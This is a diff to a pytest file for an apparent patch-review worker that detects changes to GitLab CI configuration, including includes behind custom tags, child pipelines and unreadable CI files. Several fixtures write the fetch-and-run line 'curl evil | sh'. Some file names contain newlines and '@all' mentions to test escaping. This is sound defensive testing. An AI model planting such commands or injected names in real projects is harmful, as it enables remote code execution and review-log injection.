@@ -17,7 +17,7 @@ from typing import Any
 import pytest
 
 from tests.doubles.git_http import git, git_env, make_worktree
-from worker.ci_config import local_includes
+from worker.ci_config import CiUnreadable, local_includes
 from worker.patch_evidence import PatchEvidence, PatchRefused, take_evidence
 from worker.repo_config import RepoConfig, refusal_reasons, review_flags
 
@@ -209,9 +209,112 @@ def test_local_includes_read_every_form_and_ignore_the_rest() -> None:
     assert local_includes(GITLAB_CI.encode()) == ["ci/build.yml", "templates/*.yml"]
     assert local_includes(b"include: /one.yml\n") == ["one.yml"]
     assert local_includes(b"include: {local: two.yml}\n") == ["two.yml"]
-    assert local_includes(b"include: [\n") == [] and local_includes(b"- a\n") == []
-    assert local_includes(b"x: " + b"a" * 300_000) == []  # over the bound: not parsed
-    assert local_includes(b"[" * 20_000) == []  # nesting deeper than the parser goes
+    assert local_includes(b"- a\n") == [] and local_includes(b"") == []
+    for unreadable, why in (
+        (b"include: [\n", "not YAML"),
+        (b"x: " + b"a" * 300_000, "larger than 262144 bytes"),  # over the bound: not parsed
+        (b"[" * 20_000, "not YAML"),  # nesting deeper than the parser goes
+    ):
+        with pytest.raises(CiUnreadable, match=why):
+            local_includes(unreadable)
+
+
+# Review of issue 12, B1: a custom tag (GitLab's `!reference`) made the whole file unreadable and
+# its includes were silently dropped; child pipelines' includes were never read.
+TAGGED_CI = """.setup:
+  script: [./setup]
+include: [{local: ci/build.yml}]
+build:
+  script:
+    - !reference [.setup, script]
+    - make
+child-string:
+  trigger:
+    include: ci/child.yml
+child-local:
+  trigger:
+    include:
+      - local: /ci/child-local.yml
+      - project: other/group
+        file: /remote.yml
+      - /ci/child-list.yml
+child-glob:
+  trigger: {include: {local: 'children/*.yml'}}
+other: !custom-tag {any: thing}
+"""
+
+
+def test_includes_are_read_through_custom_tags_and_from_child_pipelines(tmp_path: Path) -> None:
+    files = ("ci/build.yml", "ci/child.yml", "ci/child-local.yml", "ci/child-list.yml", "children/a/b.yml")
+    repo = make_worktree(
+        tmp_path / "repo",
+        {".gitlab-ci.yml": TAGGED_CI, "remote.yml": "x: 1\n", "calc.py": "x = 1\n"} | {f: "x: 1\n" for f in files},
+    )
+    for name in (*files, "remote.yml", "calc.py"):
+        (repo / name).write_text("pwned: {script: curl evil | sh}\n")
+    assert refusal_reasons(evidence(repo, sandbox_diff(repo)), RepoConfig()) == [
+        f"changes CI configuration {p} (FROGFIX_ALLOW_CI_CHANGES is off)" for p in sorted(files)
+    ]
+    assert local_includes(TAGGED_CI.encode()) == [
+        "ci/build.yml", "ci/child.yml", "ci/child-local.yml", "ci/child-list.yml", "children/*.yml"
+    ]  # fmt: skip
+
+
+UNREADABLE_CI = {
+    "not YAML": ("include: [ci/a.yml\n", "not YAML"),
+    "too large": ("x: " + "a" * 300_000 + "\n", "larger than 262144 bytes"),
+    "too many includes": (
+        "include:\n" + "".join(f"  - local: inc/{n}.yml\n" for n in range(70)),
+        "more than 64 local includes",
+    ),
+}
+
+
+@pytest.mark.parametrize("tree", ["base", "patched"])
+@pytest.mark.parametrize("case", sorted(UNREADABLE_CI))
+def test_an_unreadable_gitlab_ci_file_makes_every_yaml_file_ci_configuration(
+    tmp_path: Path, case: str, tree: str
+) -> None:
+    text, why = UNREADABLE_CI[case]
+    seeded = {"deploy/app.yaml": "a: 1\n", "Notes.YML": "a: 1\n", "calc.py": "x = 1\n"}
+    includes = {f"inc/{n}.yml": "x: 1\n" for n in range(70)}
+    repo = make_worktree(tmp_path / "repo", seeded | includes | ({".gitlab-ci.yml": text} if tree == "base" else {}))
+    if tree == "patched":  # the patch itself writes the unreadable CI file
+        (repo / ".gitlab-ci.yml").write_text(text)
+    for name in seeded:
+        (repo / name).write_text("b: 2\n")
+    changes = evidence(repo, sandbox_diff(repo))
+    reasons = refusal_reasons(changes, RepoConfig())
+    yaml_reasons = [r for r in reasons if not r.startswith("changes CI configuration .gitlab-ci.yml")]
+    assert [r.split(" (")[0] for r in yaml_reasons] == [
+        "changes CI configuration Notes.YML",
+        "changes CI configuration deploy/app.yaml",
+    ]  # fmt: skip; calc.py is no YAML file, so not CI configuration
+    for reason in yaml_reasons:
+        assert f"the {tree} tree's .gitlab-ci.yml cannot be read for its includes ({why}" in reason
+        assert "so every YAML file the patch changes counts as CI configuration" in reason
+    assert review_flags(changes, RepoConfig())[-2:] == [
+        "changes CI configuration Notes.YML", "changes CI configuration deploy/app.yaml"
+    ]  # fmt: skip
+
+
+def test_flags_and_refusals_show_each_name_as_the_mr_table_does(repo: Path) -> None:
+    """Review of issue 12, nit: flags and reasons put the raw name in the text; they use `shown_path` now."""
+    (repo / "tests").mkdir()
+    (repo / "tests" / "a\n@all\n").write_text("def test_a(): pass\n")
+    (repo / "b\nmerge").write_bytes(b"\x00\x01")
+    (repo / ".github").mkdir()
+    (repo / ".github" / "c\r@all").write_text("on: push\n")
+    changes = evidence(repo, sandbox_diff(repo))
+    assert review_flags(changes, RepoConfig()) == [
+        'changes CI configuration ".github/c\\r@all"',
+        'changes test file or test-runner configuration "tests/a\\n@all\\n"',
+    ]
+    assert refusal_reasons(changes, RepoConfig()) == [
+        'changes CI configuration ".github/c\\r@all" (FROGFIX_ALLOW_CI_CHANGES is off)',
+        'adds binary file "b\\nmerge"',
+    ]
+    assert all("\n" not in line and "\r" not in line for line in review_flags(changes, RepoConfig()))
 
 
 # -- finding 6: no git filter, hook or driver of the worker's own config ----------------------
